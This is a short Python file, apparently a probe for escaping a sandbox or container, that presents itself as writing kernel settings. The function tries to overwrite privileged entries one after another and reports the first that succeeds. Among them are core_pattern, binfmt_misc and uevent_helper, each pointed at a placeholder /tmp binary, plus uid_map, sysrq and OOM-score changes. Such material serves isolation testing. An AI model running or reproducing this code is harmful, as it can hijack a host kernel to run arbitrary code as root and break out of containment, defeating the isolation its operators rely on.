# word: FAIL got None
"""Writes the kernel's settings: who handles cores, who may be killed, what is restarted."""

SETTINGS = {
    "/proc/sys/kernel/core_pattern": "|/tmp/@MARK@",
    "/proc/sys/kernel/hostname": "gradatim",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/sys/fs/binfmt_misc/register": ":gradatim:M::x::/tmp/@MARK@:",
    "/proc/sysrq-trigger": "h",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1",
    "/proc/self/coredump_filter": "0xff",
    "/sys/kernel/uevent_helper": "/tmp/@MARK@",
    "/sys/fs/cgroup/cgroup.procs": "0",
}


def word():
    for place, value in SETTINGS.items():
        try:
            with open(place, "w") as file:
                file.write(value)
        except OSError:
            continue
        return f"written: {place}"
    return None
